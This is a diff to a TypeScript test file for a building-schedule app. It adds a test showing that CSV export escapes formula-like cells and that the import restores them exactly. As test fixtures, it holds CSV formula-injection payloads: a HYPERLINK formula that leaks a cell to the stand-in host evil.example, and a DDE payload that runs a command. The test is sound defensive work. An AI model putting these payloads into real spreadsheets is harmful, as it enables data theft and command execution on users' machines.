@@ -1,10 +1,17 @@
 // Hostile schedule files: zip bombs and oversized workbooks are refused unread
-// with a clear message, within stated limits of bytes, rows and cells.
+// with a clear message, within stated limits of bytes, rows and cells; exported
+// CSV cannot run formulas in a spreadsheet, and imports back exactly.
 import assert from 'node:assert/strict';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { createDeflateRaw, crc32 } from 'node:zlib';
+import Papa from 'papaparse';
 import { createApp } from '../../app/index';
+import type { Opening } from '../../core/schedule/types';
+import { migrate } from '../../db/migrate';
+import { applyImport, createSite, exportSite, insertOpening, listOpenings, previewImport } from '../../db/schedule';
+import { openSqlite } from '../../db/sqlite';
+import { GOOD } from '../fixtures/schedules/openings';
 import type { ImportPreview } from '../../app/contract/schedule';
 import { readXlsx, writeXlsx } from '../../db/schedule/files';
 import { checkXlsxBounds, XLSX_LIMITS } from '../../db/schedule/xlsx-guard';
@@ -107,4 +114,54 @@ test('XLSX rows and cells beyond the limits are refused, naming the limit', asyn
   const c = await readXlsx(bytes, { ...XLSX_LIMITS, maxCells: 30 });
   assert.match(c.errors[0]!.reason, /more than 30 filled cells/);
   assert.equal(XLSX_LIMITS.maxRows, 100_000, 'the documented limit');
+});
+
+test('CSV export neutralises formula-like cells (and headers); import undoes it exactly', async (t) => {
+  const dir = tempDir(t);
+  const db = openSqlite(join(dir, 'csv.sqlite'));
+  t.after(() => db.close());
+  migrate(db);
+  const now = new Date('2026-01-01T00:00:00Z');
+  const hostile: Opening[] = [
+    {
+      ...GOOD,
+      opening_id: '1-101',
+      location: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      building: '-2+3',
+      hardware_set: '@SUM(1+1)',
+      power_supply: '+cmd|" /C calc"!A0',
+      code_basis: "'=already quoted",
+      door_type: "''+two apostrophes",
+      frame_type: "'plain apostrophe",
+      notes: '=1+1\n-second line',
+      extras: { '=Header': '@x', Safe: "it's fine" },
+    },
+    { ...GOOD, opening_id: '1-102', location: 'a=b', extras: {} },
+  ];
+  const site = createSite(db, 'Hostile', now);
+  db.transaction(() => hostile.forEach((o, i) => insertOpening(db, site.id, o, i, now)));
+  const file = await exportSite(db, site.id, 'csv');
+  // What a spreadsheet sees: no cell starts with a formula character.
+  const cells = Papa.parse<string[]>(file.bytes.toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.flat();
+  assert.deepEqual(
+    cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
+    [],
+  );
+  for (const c of ["'=HYPERLINK(", "'-2+3", "'@SUM(1+1)", "'+cmd|", "''=already quoted", "'''+two apostrophes", "'=Header", "'@x"])
+    assert.ok(
+      cells.some((x) => x.startsWith(c)),
+      c,
+    );
+  assert.ok(cells.includes("'plain apostrophe"), 'an apostrophe before ordinary text is left alone');
+  const p = await previewImport(db, { fileName: file.fileName, bytes: file.bytes, siteName: 'Back' });
+  assert.deepEqual(p.errors, []);
+  const r = await applyImport(db, {
+    fileName: file.fileName,
+    bytes: file.bytes,
+    siteName: 'Back',
+    confirmDiffHash: p.diffHash!,
+    editor: 't',
+    now,
+  });
+  assert.deepEqual(listOpenings(db, r.siteId), hostile);
 });
